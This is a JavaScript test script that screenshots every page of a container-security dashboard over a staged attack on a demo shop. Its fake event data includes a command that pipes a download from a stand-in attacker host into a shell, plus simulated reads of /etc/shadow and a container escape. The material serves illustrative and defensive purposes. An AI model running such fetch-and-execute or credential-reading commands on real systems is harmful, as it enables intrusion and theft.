// SPDX-License-Identifier: Apache-2.0
// node tests/ui/pictures.mjs DIRECTORY: the pictures of docs/: each page, in both themes and sizes, over a small shop that is attacked. For people to look at.
import { mkdirSync } from "node:fs";
import { join } from "node:path";
import { status } from "./data.mjs";
import { Browser, Central, until } from "./env.mjs";
import { shop } from "./environment.mjs";

const out = process.argv[2];
if (!out) throw new Error("say where to: node tests/ui/pictures.mjs DIRECTORY");
mkdirSync(out, { recursive: true });
const ATTACKER = "203.0.113.9";
const env = shop();
const web = env.containers.find((c) => c.workload === "web");
const now = Date.now();
const of = (s, f) => ({ time_ns: BigInt(now - 240_000 + s * 1000) * 1_000_000n, container: web, node: "node-a", ...f });
const node0 = { pid: 310, exe: "/usr/bin/node", args: ["node", "server.js"], container_id: web.id };
const sh = { pid: 412, exe: "/bin/sh", args: ["sh", "-c", `curl -s http://${ATTACKER}/k | sh`], container_id: web.id };
const kit = { pid: 415, exe: "/tmp/.k", args: ["/tmp/.k", "-d"], container_id: web.id };
const story = [
  of(0, { rule: "Server program started a shell", tags: ["mitre_initial_access"], output: "node started a shell", lineage: [sh, node0], event: { type: 1, pid: 412, exe: sh.exe, args: sh.args, container_id: web.id }, description: "A server has no business with a shell.", advice: "Look at what the shell ran, and isolate the container." }),
  of(4, { rule: "Program run from a directory that anyone can write to", priority: "error", tags: ["mitre_execution"], output: "a program was run: /tmp/.k", lineage: [kit, sh, node0], event: { type: 1, pid: 415, exe: kit.exe, args: kit.args, container_id: web.id } }),
  of(9, { rule: "Password hashes read", priority: "warning", tags: ["mitre_credential_access"], output: "/etc/shadow was read by /tmp/.k", lineage: [kit, sh, node0], event: { type: 30, pid: 415, exe: kit.exe, path: "/etc/shadow", container_id: web.id }, count: 3 }),
  of(16, { rule: "Process outside of the container entered", tags: ["mitre_privilege_escalation", "T1611"], output: "/tmp/.k entered namespaces of the host", lineage: [kit, sh, node0], event: { type: 30, pid: 415, exe: kit.exe, path: "/proc/1/ns/mnt", container_id: web.id } }),
];
const RULES = [["Server program started a shell", "Critical", 1], ["Program run from a directory that anyone can write to", "Error", 1], ["Password hashes read", "Warning", 3], ["Process outside of the container entered", "Critical", 1], ["Kernel module loaded", "Critical", 0], ["Runtime's socket reached from a container", "Error", 0], ["Web server wrote a program file", "Warning", 0], ["Package manager run in a container", "Notice", 12]];
const PAGES = [["overview", "#/", ".tiles"], ["incidents", "#/incidents", ".incidents-grid .row.is-open"], ["incident", "#/incidents/1", ".step .lineage"], ["map", "#/map", ".map canvas"], ["findings", "#/findings", ".findings-grid .row:not(.head)"], ["models", "#/models", ".models-grid .row:not(.head)"], ["model", "#/models?app=shop&workload=web", ".items-grid .row:not(.head)"],
  ["containers", "#/containers", ".containers-grid .row:not(.head)"], ["rules", "#/policies", ".rules-grid .row:not(.head)"], ["rule-file", "#/policies?tab=files&file=site.yaml", ".would-rules"], ["responses", "#/responses", ".table"], ["events", "#/events?groups=process,file,network", ".grid-body .row"], ["health", "#/health", ".hooks"], ["users", "#/users", ".table"], ["tokens", "#/tokens", ".page-head"], ["audit", "#/audit", ".table"], ["settings", "#/settings", ".settings-table"], ["outputs", "#/settings?tab=outputs", ".card .table"]];
const BAD = "- rule: Shell in the shop\n  desc: A shell was started in a container of the shop\n  condition: >\n    evt.type = execve\n    and container.name startswith shop\n    and proc.name in (sh, bash, dash)\n  output: \"shell (command=%proc.cmdline container=%container.name)\"\n  priority: WARNING\n  tags: [mitre_execution]\n";

const central = await Central.start();
try {
  const node = await central.node("node-a");
  node.serve.rules = () => JSON.stringify(RULES.map(([name, priority, matches], n) => ({ name, priority, matches, source: "syscall", tags: [], description: "", enabled: n !== 7, runs: n !== 7, file: "/usr/share/bulkhead/rules/default.yaml", line: 10 + 12 * n })));
  node.serve.rules_set = () => undefined;
  await node.inventory(env.containers, true);
  await node.flows(env.flows, Date.now(), true);
  node.events(story.map((f) => ({ ...f.event, comm: f.event.exe.split("/").pop(), container_name: web.name })));
  for (const f of story) await node.finding(f);
  for (const s of ["/usr/bin/node", "/bin/sh", "/usr/bin/git", "/usr/bin/openssl"]) await node.observe({ container: web, subject: s, parent: "/usr/bin/node", example: s });
  const tell = setInterval(() => node.status(status()), 2000);
  for (const theme of ["dark", "light"])
    for (const [width, height] of [[1440, 900], [390, 844]]) {
      const b = await Browser.start(central, { width, height, theme, reduced: true });
      try {
        if (theme === "dark" && width === 1440) {
          await b.firstLogin();
          await b.page.evaluate(async ([text, c]) => {
            const csrf = (await (await fetch("/api/v1/me")).json()).csrf;
            const send = (method, path, body) => fetch(`/api/v1${path}`, { method, headers: { "content-type": "application/json", "x-bulkhead-csrf": csrf }, body: JSON.stringify(body) });
            await send("PUT", "/rules/files/site.yaml", { text });
            await send("PUT", "/outputs/soc", { type: "syslog", transport: "udp", host: "127.0.0.1", port: 9, minimum_priority: "warning" });
            await send("POST", "/responses", { action: "isolate", container: c, node: "node-a", reason: "a shell below the web server", ttl: 3600 });
          }, [BAD, web.id]);
        } else {
          await b.open();
          await b.login();
          await b.page.waitForSelector(".connection.live");
        }
        for (const [name, hash, ready] of PAGES) {
          await b.open(hash);
          if (name === "rule-file") await b.page.click("text=What would it have matched?");
          await b.page.waitForSelector(ready);
          if (name === "overview") await until("the verdict", async () => !/known yet|Taking stock/.test(await b.page.innerText(".verdict h1")));
          await until("nothing loads any more", async () => (await b.page.locator(".skeleton").count()) === 0);
          if (name === "map") await b.page.waitForTimeout(1500); /* tiles come to rest */
          await b.page.screenshot({ path: join(out, `${name}-${theme}-${width}.png`) });
        }
        for (const p of b.problems) console.error(`${theme} ${width}: ${p}`);
      } finally {
        await b.stop();
      }
    }
  clearInterval(tell);
} finally {
  await central.stop();
}
